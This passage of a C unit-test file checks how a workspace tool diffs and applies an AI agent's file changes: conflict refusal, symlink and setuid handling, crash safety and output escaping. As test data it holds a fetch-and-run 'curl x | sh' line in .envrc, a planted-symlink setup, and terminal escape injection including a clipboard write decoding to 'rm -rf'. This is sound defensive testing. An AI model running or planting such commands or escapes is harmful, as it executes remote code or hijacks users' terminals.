/*
 * cow_diff and cow_apply (workspace/cow.h) on trees laid out here: a
 * workspace W, and the view V an agent left (the cow directory's upper/,
 * a whole tree here, so every change's src is in the cow directory). The
 * changes are what cow_changes would list: found by comparing W and V
 * (t_changes), with W's lstat() as the base.
 *
 * Round trip of every kind of change through diff (git apply and patch
 * take it) and apply (W equals V after); conflicts refuse the whole apply;
 * a link planted on a changed path is not followed; setuid is stripped;
 * modes are what the umask allows, never writable by others;
 * kill -9 in the middle of an apply leaves each file old or new and the
 * next apply finishes; paths that run code on the host are left out;
 * colour output holds no control byte of the agent's.
 */
#include <sys/stat.h>
#include <sys/wait.h>

#include <grp.h>

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <limits.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>

#include "workspace/cow.h"
#include "workspace/hostexec.h"

#include "cow_apply_test.h"
#include "tests/test_wait.h"

static void
test_roundtrip(void **state)
{
	struct t	 t;
	char		*d, *rep, *want, *got;

	(void)state;
	t_open(&t);
	t_layout_all(&t);
	d = t_diff(&t, 0, NULL);
	if (getenv("T_SHOW") != NULL)
		fputs(d, stderr);
	assert_non_null(strstr(d, "diff --git a/mod.txt b/mod.txt\n--- "
	    "a/mod.txt\n+++ b/mod.txt\n@@ -1,6 +1,6 @@\n line 1\n line 2\n"
	    "-line 3\n+line three\n"));
	assert_non_null(strstr(d, "@@ -12,9 +12,9 @@\n"));
	assert_non_null(strstr(d, "diff --git a/gone.txt b/gone.txt\n"
	    "deleted file mode 100644\n--- a/gone.txt\n+++ /dev/null\n"
	    "@@ -1 +0,0 @@\n-bye\n"));
	assert_non_null(strstr(d, "new file mode 100644\n--- /dev/null\n"
	    "+++ b/new-name.txt\n@@ -0,0 +1 @@\n+moving\n"));
	assert_non_null(strstr(d, "diff --git a/script.sh b/script.sh\n"
	    "old mode 100644\nnew mode 100755\n"));
	assert_non_null(strstr(d, "Binary files a/bin.dat and b/bin.dat "
	    "differ\n"));
	assert_non_null(strstr(d, "-mod.txt\n\\ No newline at end of file\n"
	    "+new-target\n\\ No newline at end of file\n"));
	assert_non_null(strstr(d, "# new-empty: directory created\n"));
	assert_non_null(strstr(d, "# emptydir-gone: directory removed\n"));
	assert_non_null(strstr(d, "# keepdir: directory, mode 0755 -> 0700\n"));
	assert_non_null(strstr(d, "deleted file mode 100644\n--- a/tc\n"));
	assert_non_null(strstr(d, "new file mode 120000\n--- /dev/null\n"
	    "+++ b/tc\n"));
	free(d);
	want = tree(t.view);
	assert_int_equal(t_apply(&t, 0, &rep), 0);
	assert_non_null(strstr(rep, "changed mod.txt\n"));
	assert_non_null(strstr(rep, "deleted d\n"));
	assert_non_null(strstr(rep, "created new-empty\n"));
	got = tree(t.ws);
	assert_string_equal(got, want);
	t_no_journal(&t);
	free(got);
	free(rep);
	/* Applied again: every change is there already. */
	assert_int_equal(t_apply(&t, 0, &rep), 0);
	assert_non_null(strstr(rep, "already applied: mod.txt\n"));
	got = tree(t.ws);
	assert_string_equal(got, want);
	free(got);
	free(rep);
	free(want);
	t_close(&t);
}

/* Random lines from a small alphabet, so that many lines match. */
static void
t_random_text(FILE *f, unsigned n, int eol)
{
	unsigned	i;

	for (i = 0; i < n; i++)
		fprintf(f, "%c%s", 'a' + rand() % 5, i + 1 < n || eol ? "\n" :
		    "");
}

/* The same text with lines changed, dropped and added at random. */
static void
t_mutate(const char *from, const char *to)
{
	char	 line[64];
	FILE	*in, *out;

	assert_non_null(in = fopen(from, "r"));
	assert_non_null(out = fopen(to, "w"));
	while (fgets(line, sizeof(line), in) != NULL) {
		switch (rand() % 8) {
		case 0:
			break;
		case 1:
			t_random_text(out, 1 + rand() % 3, 1);
			/* FALLTHROUGH */
		default:
			fputs(line, out);
		}
		if (rand() % 10 == 0)
			fprintf(out, "%c\n", 'a' + rand() % 5);
	}
	if (rand() % 3 == 0)
		t_random_text(out, 1 + rand() % 3, rand() % 2);
	fclose(in);
	fclose(out);
}

/* Text-only changes (and random files of near-alike lines): the diff
 * goes through `git apply` (or `patch -p1`, which does not change a
 * link: link 0) on a copy of W to V. */
static void
t_patch(int git)
{
	struct t	 t;
	char		 p[2 * PATH_MAX], q[2 * PATH_MAX], *d, *want, *got;
	FILE		*f;
	int		 i;

	srand(20);
	t_open(&t);
	for (i = 0; i < 40; i++) {
		snprintf(p, sizeof(p), "%s/r%02d.txt", t.ws, i);
		assert_non_null(f = fopen(p, "w"));
		t_random_text(f, (unsigned)(rand() % 60), rand() % 4 != 0);
		fclose(f);
	}
	sh("cd '%s' && seq 1 30 > n.txt && echo x > gone && mkdir sub && "
	    "echo s > sub/s && ln -s n.txt ln && echo m > mode && "
	    "echo 'sp' > 'with space' && printf 'q\\n' > 'tab\tname'", t.ws);
	t_fork(&t);
	for (i = 0; i < 40; i++) {
		snprintf(p, sizeof(p), "%s/r%02d.txt", t.ws, i);
		snprintf(q, sizeof(q), "%s/r%02d.txt", t.view, i);
		t_mutate(p, q);
	}
	sh("cd '%s' && sed -i 's/^15$/fifteen/' n.txt && rm gone && "
	    "mv sub/s sub/t && chmod 755 mode && echo more >> 'with space' && "
	    "echo r >> 'tab\tname' && echo new > added && ln -s n.txt newln && "
	    "echo 'use nix' > .envrc", t.view);
	if (git)
		sh("ln -sfn other '%s/ln'", t.view);
	t_changes(&t);
	d = t_diff(&t, 0, NULL);
	assert_non_null(strstr(d, "# runs on the host: "));
	snprintf(p, sizeof(p), "%s/d.patch", t.root);
	assert_non_null(f = fopen(p, "w"));
	fputs(d, f);
	fclose(f);
	want = tree(t.view);
	if (git)
		sh("cp -a '%s' '%s/pt' && cd '%s/pt' && git apply --check '%s' "
		    "&& git apply '%s'", t.ws, t.root, t.root, p, p);
	else
		sh("cp -a '%s' '%s/pt' && cd '%s/pt' && patch -s -p1 < '%s'",
		    t.ws, t.root, t.root, p);
	snprintf(q, sizeof(q), "%s/pt", t.root);
	got = tree(q);
	assert_string_equal(got, want);
	free(got);
	free(want);
	free(d);
	t_close(&t);
}

static void
test_git_apply(void **state)
{
	(void)state;
	if (system("git --version >/dev/null 2>&1") != 0)
		skip();
	t_patch(1);
}

static void
test_patch(void **state)
{
	(void)state;
	if (system("patch --version >/dev/null 2>&1") != 0)
		skip();
	t_patch(0);
}

/* The workspace changed under three paths after the run began: each is
 * named, and nothing at all is applied. */
static void
test_conflict(void **state)
{
	struct t	 t;
	char		*rep, *before, *after;

	(void)state;
	t_open(&t);
	sh("cd '%s' && echo a > a.txt && echo b > b.txt && mkdir dir sub && "
	    "echo c > dir/c.txt && echo k > kept.txt", t.ws);
	t_fork(&t);
	sh("cd '%s' && echo A > a.txt && echo B > b.txt && echo n > new.txt "
	    "&& rm -r dir && echo K > kept.txt && echo s > sub/s.txt", t.view);
	t_changes(&t);
	sh("cd '%s' && echo user >> a.txt && echo mine > new.txt && "
	    "echo extra > dir/extra && chmod 600 kept.txt && rmdir sub", t.ws);
	before = tree(t.ws);
	assert_int_equal(t_apply(&t, 0, &rep), 1);
	assert_non_null(strstr(rep, "conflict: a.txt: its content changed\n"));
	assert_non_null(strstr(rep, "conflict: new.txt: it was created in the "
	    "workspace since the run started\n"));
	assert_non_null(strstr(rep, "conflict: dir: the directory holds extra,"
	    " which the run's base did not have\n"));
	assert_non_null(strstr(rep, "conflict: kept.txt: its mode changed\n"));
	assert_non_null(strstr(rep, "conflict: sub/s.txt: its directory is "
	    "gone from the workspace"));
	assert_non_null(strstr(rep, "nothing applied (5 conflicts, 0 refused)"));
	after = tree(t.ws);
	assert_string_equal(after, before);
	t_no_journal(&t);
	free(rep);
	free(before);
	free(after);
	t_close(&t);
}

/* A link planted in the workspace where the run changed a file below:
 * the walk does not go through it, the file outside stays as it was. */
static void
test_planted_link(void **state)
{
	struct t	 t;
	char		*rep, *before, *after, out[PATH_MAX + 16];

	(void)state;
	t_open(&t);
	snprintf(out, sizeof(out), "%s/outside", t.root);
	sh("mkdir '%s' && echo theirs > '%s/f.txt' && cd '%s' && mkdir d && "
	    "echo f > d/f.txt && echo top > top.txt", out, out, t.ws);
	t_fork(&t);
	sh("cd '%s' && echo F > d/f.txt && echo new > d/new.txt && "
	    "echo TOP > top.txt", t.view);
	t_changes(&t);
	sh("cd '%s' && rm -r d && ln -s '%s' d && rm top.txt && "
	    "ln -s '%s/f.txt' top.txt", t.ws, out, out);
	before = tree(out);
	assert_int_equal(t_apply(&t, 0, &rep), 1);
	assert_non_null(strstr(rep, "conflict: d/f.txt: a directory on its "
	    "path is now a link or not a directory\n"));
	assert_non_null(strstr(rep, "conflict: d/new.txt: a directory on its "
	    "path is now a link"));
	assert_non_null(strstr(rep, "conflict: top.txt: it is another type"));
	after = tree(out);
	assert_string_equal(after, before);
	free(rep);
	free(before);
	free(after);
	t_close(&t);
}

static mode_t
t_mode(const struct t *t, const char *path)
{
	struct stat	sb;
	char		p[2 * PATH_MAX];

	snprintf(p, sizeof(p), "%s/%s", t->ws, path);
	assert_int_equal(lstat(p, &sb), 0);
	return sb.st_mode & 07777;
}

static void
test_setuid_stripped(void **state)
{
	struct t	 t;
	char		*rep;

	(void)state;
	t_open(&t);
	sh("cd '%s' && echo tool > tool && chmod 755 tool", t.ws);
	t_fork(&t);
	sh("cd '%s' && chmod 4755 tool && echo t2 > tool2 && chmod 2750 tool2 "
	    "&& mkdir sg && chmod 2775 sg", t.view);
	t_changes(&t);
	assert_int_equal(t_apply(&t, 0, &rep), 0);
	assert_int_equal(t_mode(&t, "tool"), 0755);
	assert_int_equal(t_mode(&t, "tool2"), 0750);
	assert_int_equal(t_mode(&t, "sg"), 0755);	/* umask 022 */
	assert_non_null(strstr(rep, "not applied: the setuid or setgid bit of "
	    "tool\n"));
	assert_non_null(strstr(rep, "of tool2\n"));
	assert_non_null(strstr(rep, "of sg\n"));
	free(rep);
	t_close(&t);
}

/*
 * An agent's 0777 directory and script and 0666 file, a chmod 0777 of a
 * file and a sticky 1777 directory: applied as the umask allows, never
 * writable by others (under umask 0 too); a file the user made 0666
 * keeps its mode when the layer left the mode as it was. Applied again:
 * all there already.
 */
static void
test_umask_modes(void **state)
{
	static const mode_t	 masks[] = { 022, 077, 0 };
	struct t		 t;
	size_t			 k;
	mode_t			 m, old;
	char			*rep;

	(void)state;
	for (k = 0; k < sizeof(masks) / sizeof(masks[0]); k++) {
		m = masks[k];
		t_open(&t);
		sh("cd '%s' && echo a > chm && chmod 644 chm && echo w > ww && "
		    "chmod 666 ww", t.ws);
		t_fork(&t);
		sh("cd '%s' && mkdir d && echo 'echo hi' > d/s.sh && echo f > f "
		    "&& chmod 777 d d/s.sh chm && chmod 666 f && mkdir sd && "
		    "chmod 1777 sd && echo W > ww", t.view);
		t_changes(&t);
		old = umask(m);
		assert_int_equal(t_apply(&t, 0, &rep), 0);
		free(rep);
		assert_int_equal(t_mode(&t, "d"), 0775 & ~m);
		assert_int_equal(t_mode(&t, "d/s.sh"), 0775 & ~m);
		assert_int_equal(t_mode(&t, "chm"), 0775 & ~m);
		assert_int_equal(t_mode(&t, "f"), 0664 & ~m);
		assert_int_equal(t_mode(&t, "sd"), 0775 & ~m);
		assert_int_equal(t_mode(&t, "ww"), 0666);
		assert_int_equal(t_apply(&t, 0, &rep), 0);
		assert_null(strstr(rep, "created"));
		assert_null(strstr(rep, "changed"));
		assert_non_null(strstr(rep, "already applied: d/s.sh\n"));
		free(rep);
		umask(old);
		t_close(&t);
	}
}

#define T_KILL_FILES	900

/* Every file of the kill test is its old content, its new content, or
 * (deleted, or not yet added) absent: never a part. Returns how many are
 * new, and counts the temporaries left. */
static size_t
t_kill_check(const struct t *t, size_t *ntmp)
{
	char		 p[PATH_MAX + 64], buf[128], old[64], new[64];
	struct dirent	*de;
	DIR		*d;
	size_t		 i, nnew = 0;
	ssize_t		 n;
	int		 fd;

	for (i = 0; i < T_KILL_FILES; i++) {
		snprintf(p, sizeof(p), "%s/%s%03zu", t->ws, i % 3 == 2 ?
		    "nd/f" : "f", i);
		snprintf(old, sizeof(old), "old %zu\n", i);
		snprintf(new, sizeof(new), "new content of %zu\n", i);
		if ((fd = open(p, O_RDONLY)) == -1) {
			assert_int_equal(errno, ENOENT);
			assert_true(i % 3 != 0);	/* kept or changed */
			nnew += i % 3 == 1;
			continue;
		}
		n = read(fd, buf, sizeof(buf) - 1);
		close(fd);
		assert_true(n >= 0);
		buf[n] = '\0';
		if (strcmp(buf, new) == 0)
			nnew++;
		else
			assert_string_equal(buf, old);
	}
	*ntmp = 0;
	assert_non_null(d = opendir(t->ws));
	while ((de = readdir(d)) != NULL)
		*ntmp += strncmp(de->d_name, ".warren-apply.", 14) == 0;
	closedir(d);
	return nnew;
}

/* Files f000... (i % 3 == 0 changed, 1 deleted) and nd/f002... (2 added
 * in a new directory): kill -9 an apply at growing random delays until
 * one finishes; after each kill every file is old or new; the last apply
 * leaves V and no temporary behind. */
static void
test_kill(void **state)
{
	struct t	 t;
	struct timespec	 ts;
	char		 p[PATH_MAX + 64], *want, *got;
	size_t		 i, ntmp, nnew, mid = 0, rounds = 0;
	long		 delay_us = 200, us;
	pid_t		 pid;
	FILE		*f;
	int		 st;

	(void)state;
	srand((unsigned)time(NULL));
	t_open(&t);
	for (i = 0; i < T_KILL_FILES; i++) {
		if (i % 3 == 2)
			continue;
		snprintf(p, sizeof(p), "%s/f%03zu", t.ws, i);
		assert_non_null(f = fopen(p, "w"));
		fprintf(f, "old %zu\n", i);
		fclose(f);
	}
	t_fork(&t);
	sh("mkdir '%s/nd'", t.view);
	for (i = 0; i < T_KILL_FILES; i++) {
		snprintf(p, sizeof(p), "%s/%s%03zu", t.view, i % 3 == 2 ?
		    "nd/f" : "f", i);
		if (i % 3 == 1) {
			assert_int_equal(unlink(p), 0);
			continue;
		}
		assert_non_null(f = fopen(p, "w"));
		fprintf(f, "new content of %zu\n", i);
		fclose(f);
	}
	t_changes(&t);
	want = tree(t.view);
	for (;; rounds++) {
		assert_true(rounds < 60);
		if ((pid = fork()) == 0) {
			if (freopen("/dev/null", "w", stdout) == NULL)
				_exit(3);
			_exit(t_apply(&t, 0, NULL) == 0 ? 0 : 2);
		}
		assert_true(pid > 0);
		us = delay_us + rand() % (delay_us + 1);
		ts.tv_sec = us / 1000000;
		ts.tv_nsec = us % 1000000 * 1000;
		nanosleep(&ts, NULL);
		kill(pid, SIGKILL);
		/* After SIGKILL: it ends. */
		assert_int_equal(waitpid(pid, &st, 0), pid);
		if (WIFEXITED(st)) {
			assert_int_equal(WEXITSTATUS(st), 0);
			break;
		}
		nnew = t_kill_check(&t, &ntmp);
		if ((nnew > 0 && nnew < T_KILL_FILES / 3 * 2) || ntmp > 0)
			mid++;
		delay_us = delay_us * 3 / 2;
	}
	print_message("kill -9: %zu rounds, %zu killed mid-way\n", rounds, mid);
	assert_true(mid >= 1);
	/* A last apply in this process, whatever the kills left. */
	assert_int_equal(t_apply(&t, 0, NULL), 0);
	got = tree(t.ws);
	assert_string_equal(got, want);
	t_no_journal(&t);
	free(got);
	free(want);
	t_close(&t);
}

/* .envrc runs on the host (direnv): flagged in the diff, left out of an
 * apply without COW_APPLY_SENSITIVE, applied with it. */
static void
test_sensitive(void **state)
{
	struct t	 t;
	char		*d, *rep, p[PATH_MAX + 16];

	(void)state;
	t_open(&t);
	sh("cd '%s' && echo plain > plain.txt", t.ws);
	t_fork(&t);
	sh("cd '%s' && echo changed > plain.txt && echo 'curl x | sh' > "
	    ".envrc", t.view);
	t_changes(&t);
	d = t_diff(&t, 0, NULL);
	assert_non_null(strstr(d, "# runs on the host: "));
	assert_non_null(strstr(strstr(d, "# runs on the host: "),
	    "\ndiff --git a/.envrc b/.envrc\n"));
	free(d);
	d = t_diff(&t, COW_DIFF_STAT, NULL);
	assert_non_null(strstr(d, " .envrc    | 1 +  # runs on the host: "));
	free(d);
	assert_int_equal(t_apply(&t, 0, &rep), 0);
	assert_non_null(strstr(rep, "left out: .envrc: runs on the host: "));
	assert_non_null(strstr(rep, "changed plain.txt\n"));
	snprintf(p, sizeof(p), "%s/.envrc", t.ws);
	assert_int_equal(access(p, F_OK), -1);
	free(rep);
	assert_int_equal(t_apply(&t, COW_APPLY_SENSITIVE, &rep), 0);
	assert_non_null(strstr(rep, "created .envrc\n"));
	assert_non_null(strstr(rep, "already applied: plain.txt\n"));
	assert_int_equal(access(p, F_OK), 0);
	free(rep);
	t_close(&t);
}

/* Remove our own colour codes: what is left must hold no ESC and no
 * control byte but newline and tab. */
static void
t_no_controls(char *s, size_t len)
{
	static const char	*codes[] = { "\033[1m", "\033[31m", "\033[32m",
	    "\033[36m", "\033[m" };
	size_t			 i, k, cl;

	for (i = 0; i < len; i++) {
		for (k = 0; k < sizeof(codes) / sizeof(codes[0]); k++) {
			cl = strlen(codes[k]);
			if (len - i >= cl && memcmp(s + i, codes[k], cl) == 0) {
				memset(s + i, ' ', cl);
				break;
			}
		}
		if (s[i] != '\n' && s[i] != '\t' &&
		    ((unsigned char)s[i] < 0x20 || (unsigned char)s[i] == 0x7f))
			fail_msg("control byte 0x%02x at %zu: %.40s",
			    (unsigned char)s[i], i, s + (i > 20 ? i - 20 : 0));
	}
}

static void
test_color_escaped(void **state)
{
	struct t	 t;
	char		*d, p[2 * PATH_MAX];
	size_t		 len;
	FILE		*f;

	(void)state;
	t_open(&t);
	sh("cd '%s' && echo ok > ok.txt && ln -s ok.txt l", t.ws);
	t_fork(&t);
	snprintf(p, sizeof(p), "%s/evil\033]0;title\007name", t.view);
	assert_non_null(f = fopen(p, "w"));
	fputs("line\033[2J\033]52;c;cm0gLXJm\007\r\n\x9b" "31m\xc2\x9b" "0m\n",
	    f);
	fclose(f);
	snprintf(p, sizeof(p), "%s/ok.txt", t.view);
	assert_non_null(f = fopen(p, "w"));
	fputs("ok\033[8m hidden\n", f);
	fclose(f);
	sh("cd '%s' && ln -sfn \"$(printf 'x\\033[2Jy')\" l", t.view);
	t_changes(&t);
	d = t_diff(&t, COW_DIFF_COLOR, &len);
	assert_non_null(strstr(d, "\033[32m+line\\x1b[2J"));
	t_no_controls(d, len);
	free(d);
	d = t_diff(&t, COW_DIFF_COLOR | COW_DIFF_STAT, &len);
	t_no_controls(d, len);
	free(d);
	/* Without colour: names quoted as git does, content escaped and
	 * marked all the same; raw bytes only with COW_DIFF_RAW. */
	d = t_diff(&t, 0, &len);
	assert_non_null(strstr(d, "diff --git \"a/evil\\033]0;title\\007name\""
	    " \"b/evil\\033]0;title\\007name\"\n"));
	assert_non_null(strstr(d, "+line\\x1b[2J\\x1b]52;c;cm0gLXJm\\x07\\x0d\n"
	    "\\ escaped: \\xNN is a byte, \\\\ a backslash\n"));
	t_no_controls(d, len);
	free(d);
	d = t_diff(&t, COW_DIFF_RAW, &len);
	assert_non_null(strstr(d, "+line\033[2J"));
	assert_null(strstr(d, "\\ escaped"));
	free(d);
	t_close(&t);
}

static void
test_stat(void **state)
{
	struct t	 t;
	char		*d;

	(void)state;
	t_open(&t);
	t_layout_all(&t);
	d = t_diff(&t, COW_DIFF_STAT, NULL);
	if (getenv("T_SHOW") != NULL)
		fputs(d, stderr);
	assert_non_null(strstr(d, " mod.txt              | 4 ++--\n"));
	assert_non_null(strstr(d, " bin.dat              | binary  # "
	    "unreviewed\n"));
	assert_non_null(strstr(d, " new-empty            | directory created"
	    "\n"));
	assert_non_null(strstr(d, " gone.txt             | 1 -\n"));
	assert_non_null(strstr(d, " script.sh            | 0\n"));
	assert_non_null(strstr(d, " 23 files changed, 10 insertions(+), 8 "
	    "deletions(-)\n"));
	free(d);
	t_close(&t);
}

/* Over 8 MB: named, not diffed; apply still carries it whole. */
static void
test_big(void **state)
{
	struct t	 t;
	char		*d, *want, *got, *rep, err[256];

	(void)state;
	t_open(&t);
	sh("cd '%s' && head -c 9000000 /dev/zero | tr '\\0' 'a' > big", t.ws);
	t_fork(&t);
	sh("cd '%s' && echo tail >> big", t.view);
	t_changes(&t);
	d = t_diff(&t, 0, NULL);
	assert_string_equal(d, "# unreviewed: big: too large to show (over 8 "
	    "MB): apply leaves it out without --include-unreviewed\n"
	    "# big: too large to show (over 8 MB)\n");
	free(d);
	want = tree(t.view);
	/* Reviewed, it is held back unless asked for. */
	assert_int_equal(cow_review(&t.c, &t.ch, err, sizeof(err)), 0);
	assert_int_equal(t_apply(&t, 0, &rep), 0);
	assert_non_null(strstr(rep, "left out: big: unreviewed: too large"));
	free(rep);
	got = tree(t.ws);
	assert_string_not_equal(got, want);
	free(got);
	assert_int_equal(t_apply(&t, COW_APPLY_UNREVIEWED, NULL), 0);
	got = tree(t.ws);
	assert_string_equal(got, want);
	free(got);
	free(want);
	t_close(&t);
}

/* A changed file keeps its owner and group when root applies; a new one
 * is the applier's. */
static void
test_owner(void **state)
{
	struct t	 t;
	struct stat	 sb;
	char		 p[PATH_MAX + 16];

	(void)state;
	t_open(&t);
	sh("cd '%s' && echo o > own.txt", t.ws);
	if (geteuid() == 0)
		sh("chown 4242:4343 '%s/own.txt'", t.ws);
	t_fork(&t);
	sh("cd '%s' && echo O > own.txt && echo n > new.txt", t.view);
	if (geteuid() == 0)
		sh("chown 0:0 '%s/own.txt'", t.view);
	t_changes(&t);
	assert_int_equal(t_apply(&t, 0, NULL), 0);
	snprintf(p, sizeof(p), "%s/own.txt", t.ws);
	assert_int_equal(stat(p, &sb), 0);
	assert_int_equal(sb.st_uid, geteuid() == 0 ? 4242 : getuid());
	assert_int_equal(sb.st_gid, geteuid() == 0 ? 4343 : getgid());
	snprintf(p, sizeof(p), "%s/new.txt", t.ws);
	assert_int_equal(stat(p, &sb), 0);
	assert_int_equal(sb.st_uid, geteuid());
	t_close(&t);
}

/* A FIFO in the layer: named by diff, and apply refuses the run. */
static void
test_fifo_refused(void **state)
{
	struct t	 t;
	char		*d, *rep, *before, *after;

	(void)state;
	t_open(&t);
	sh("cd '%s' && echo a > a", t.ws);
	t_fork(&t);
	sh("cd '%s' && echo A > a && mkfifo pipe", t.view);
	t_changes(&t);
	d = t_diff(&t, 0, NULL);
	assert_non_null(strstr(d, "# pipe: a fifo, device or socket: apply "
	    "refuses it\n"));
	free(d);
	before = tree(t.ws);
	assert_int_equal(t_apply(&t, 0, &rep), 1);
	assert_non_null(strstr(rep, "refused: pipe: a FIFO"));
	after = tree(t.ws);
	assert_string_equal(after, before);
	free(rep);
	free(before);
	free(after);
	t_close(&t);
}

/* What a killed apply leaves half-way through a type change (the file
 * removed, the directory not made yet; the directory removed, the file
 * not renamed in yet) or before a new directory's mode is set: the next
 * apply finishes. A directory whose mode the user changed is still a
 * conflict. */
static void
test_interrupted_types(void **state)
{
	struct t	 t;
	char		*rep, *want, *got;

	(void)state;
	t_open(&t);
	sh("cd '%s' && echo x > x && mkdir y m && echo g > y/g && "
	    "chmod 755 m", t.ws);
	t_fork(&t);
	sh("cd '%s' && rm x && mkdir x && echo f > x/f && rm -r y && "
	    "echo y > y && mkdir nd && chmod 755 nd && echo n > nd/n",
	    t.view);
	t_changes(&t);
	want = tree(t.view);
	sh("cd '%s' && rm x && rm -r y && mkdir nd && chmod 700 nd", t.ws);
	assert_int_equal(t_apply(&t, 0, &rep), 0);
	got = tree(t.ws);
	assert_string_equal(got, want);
	free(got);
	free(rep);
	free(want);
	t_close(&t);

	t_open(&t);
	sh("cd '%s' && mkdir m && chmod 755 m", t.ws);
	t_fork(&t);
	sh("chmod 700 '%s/m'", t.view);
	t_changes(&t);
	sh("chmod 750 '%s/m'", t.ws);
	assert_int_equal(t_apply(&t, 0, &rep), 1);
	assert_non_null(strstr(rep, "conflict: m: its mode changed\n"));
	assert_int_equal(t_mode(&t, "m"), 0750);
	free(rep);
	t_close(&t);
}

/* A new file in a directory whose name holds a newline cannot be named on
 * a journal line: refused, nothing applied. */
static void
test_newline_dir(void **state)
{
	struct t	 t;
	char		*rep, *before;
	int		 rc;

	(void)state;
	t_open(&t);
	sh("cd '%s' && echo a > a", t.ws);
	t_fork(&t);
	sh("cd '%s' && echo A > a && mkdir \"$(printf 'n\\nl')\" && "
	    "echo f > \"$(printf 'n\\nl')/f\"", t.view);
	t_changes(&t);
	before = tree(t.ws);
	rc = t_apply(&t, 0, &rep);
	t_unchanged(&t, rc, rep, "conflict: n\\x0al/f: a directory on its "
	    "path has a newline in its name", before);
	t_close(&t);
}

/* What a killed apply left, as its journal names it: the temporaries go
 * (file or link), nothing else does, and no link is followed. */
static void
test_clean(void **state)
{
	struct t	 t;
	char		 p[PATH_MAX + 64], err[512], *got;
	FILE		*f;

	(void)state;
	t_open(&t);
	sh("mkdir '%s/out' && cd '%s/out' && echo keep > .warren-apply.AAAA "
	    "&& cd '%s' && mkdir d && echo t > d/.warren-apply.BBBBBBBB && "
	    "ln -s x .warren-apply.CCCCCCCC && echo mine > mine.txt && "
	    "ln -s '%s/out' via", t.root, t.root, t.ws, t.root);
	snprintf(p, sizeof(p), "%s/apply.journal", t.c.dir);
	assert_non_null(f = fopen(p, "w"));
	fprintf(f, "%s/d/.warren-apply.BBBBBBBB\n%s/.warren-apply.CCCCCCCC\n"
	    "%s/mine.txt\n%s/via/.warren-apply.AAAA\n%s/out/.warren-apply.AAAA"
	    "\n%s/gone/.warren-apply.DDDDDDDD\n", t.ws, t.ws, t.ws, t.ws,
	    t.root, t.ws);
	fclose(f);
	assert_int_equal(cow_apply_clean(&t.c, err, sizeof(err)), 0);
	t_no_journal(&t);
	got = tree(t.ws);
	assert_null(strstr(got, ".warren-apply."));
	assert_non_null(strstr(got, "./mine.txt"));
	free(got);
	snprintf(p, sizeof(p), "%s/out/.warren-apply.AAAA", t.root);
	assert_int_equal(access(p, F_OK), 0);
	t_close(&t);
}

/*
 * A directory the run deleted that still holds a file apply leaves out
 * (.envrc: it runs code on the host) cannot go: the apply is refused
 * before anything is written, saying which file and why, instead of
 * failing half way with ENOTEMPTY after the other changes went in.
 */
static void
test_deleted_dir_held(void **state)
{
	struct t	 t;
	char		*rep, *before, *after;
	int		 rc;

	(void)state;
	t_open(&t);
	sh("cd '%s' && echo plain > plain.txt && mkdir sub && echo a > "
	    "sub/a.txt && echo 'use nix' > sub/.envrc", t.ws);
	t_fork(&t);
	sh("cd '%s' && echo changed > plain.txt && rm -r sub", t.view);
	t_changes(&t);
	before = tree(t.ws);
	rc = t_apply(&t, 0, &rep);
	t_unchanged(&t, rc, rep, "conflict: sub: the directory holds .envrc, "
	    "which runs code on the host and is left out without "
	    "--include-sensitive\n", before);
	assert_int_equal(t_apply(&t, COW_APPLY_SENSITIVE, &rep), 0);
	assert_non_null(strstr(rep, "deleted sub\n"));
	after = tree(t.ws);
	before = tree(t.view);
	assert_string_equal(after, before);
	free(rep);
	free(after);
	free(before);
	t_close(&t);
}

/* A file's text. */
static char *
t_slurp(const char *path)
{
	char	*buf = NULL;
	size_t	 len = 0;
	FILE	*f, *m;
	int	 c;

	assert_non_null(f = fopen(path, "r"));
	assert_non_null(m = open_memstream(&buf, &len));
	while ((c = getc(f)) != EOF)
		putc(c, m);
	fclose(f);
	assert_int_equal(fclose(m), 0);
	return buf;
}

/* The uid apply runs as in test_readonly_dir when the test is root. */
#define T_NOBODY	65534

/* cow_apply as an ordinary user: as root, in a child that becomes
 * T_NOBODY (t's tree is its own already); its report in *report. */
static int
t_apply_user(struct t *t, char **report)
{
	FILE	*f;
	char	 p[PATH_MAX], err[512];
	pid_t	 pid;
	int	 st, i;

	if (geteuid() != 0)
		return t_apply(t, 0, report);
	snprintf(p, sizeof(p), "%s/report", t->root);
	if ((pid = fork()) == 0) {
		if (setgroups(0, NULL) == -1 || setresgid(T_NOBODY, T_NOBODY,
		    T_NOBODY) == -1 || setresuid(T_NOBODY, T_NOBODY,
		    T_NOBODY) == -1 || (f = fopen(p, "w")) == NULL)
			_exit(99);
		i = cow_apply(&t->c, &t->ch, 0, f, err, sizeof(err));
		if (i == -1)
			fprintf(f, "error: %s\n", err);
		fclose(f);
		_exit(i + 10);
	}
	assert_true(pid > 0);
	/* At most 60 s: an apply of three files takes milliseconds. */
	if ((st = test_waitpid(pid, 60, "cow_apply as uid 65534")) == -1)
		fail_msg("cow_apply as uid %d: no exit within 60 s", T_NOBODY);
	if (!WIFEXITED(st) || WEXITSTATUS(st) == 99)
		fail_msg("cow_apply as uid %d: could not start (status 0x%x)",
		    T_NOBODY, st);
	*report = t_slurp(p);
	return WEXITSTATUS(st) - 10;
}

/*
 * A directory the user made read-only, from which the run deleted a
 * file (it made it writable, removed the file, and made it read-only
 * again): apply cannot remove the file there. It says so and writes
 * nothing, instead of changing plain.txt and then failing on the
 * deletion (EACCES) half way. Run as an ordinary user (root writes
 * anywhere); as root the apply runs as uid 65534.
 */
static void
test_readonly_dir(void **state)
{
	struct t	 t;
	char		*rep, *before;
	int		 rc;

	(void)state;
	t_open(&t);
	sh("cd '%s' && echo plain > plain.txt && mkdir ro && echo old > "
	    "ro/old.txt && chmod 555 ro", t.ws);
	t_fork(&t);
	sh("cd '%s' && echo changed > plain.txt && chmod u+w ro && "
	    "rm ro/old.txt && chmod 555 ro", t.view);
	if (geteuid() == 0)
		sh("chown -R %d:%d '%s'", T_NOBODY, T_NOBODY, t.root);
	t_changes(&t);
	before = tree(t.ws);
	rc = t_apply_user(&t, &rep);
	t_unchanged(&t, rc, rep, "refused: ro/old.txt: its directory ro "
	    "cannot be written (Permission denied): make it writable and "
	    "apply again\n", before);
	sh("chmod u+w '%s/ro'", t.ws);
	t_close(&t);
}

/*
 * A directory someone else owns (root's, in an ordinary user's
 * workspace) whose mode the run changed: its mode cannot be set by the
 * user, so the apply is refused before anything is written, instead of
